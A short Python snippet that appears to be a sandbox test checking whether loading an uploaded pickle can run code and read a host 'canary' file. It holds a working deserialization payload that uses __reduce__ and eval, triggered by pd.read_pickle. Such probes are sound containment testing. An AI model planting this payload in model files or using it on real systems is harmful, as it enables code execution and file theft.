# Tries: have a pickle, as an upload could be, run code while it is read.
# Contained: the code runs where everything does: the host's file does not come out.
# Alone: escapes
import pickle

class Attack:
    def __reduce__(self):
        return eval, (f"print('ESCAPED:', open({canary_path!r}).read())",)

with open("model.pkl", "wb") as file:
    pickle.dump(Attack(), file)
pd.read_pickle("model.pkl")
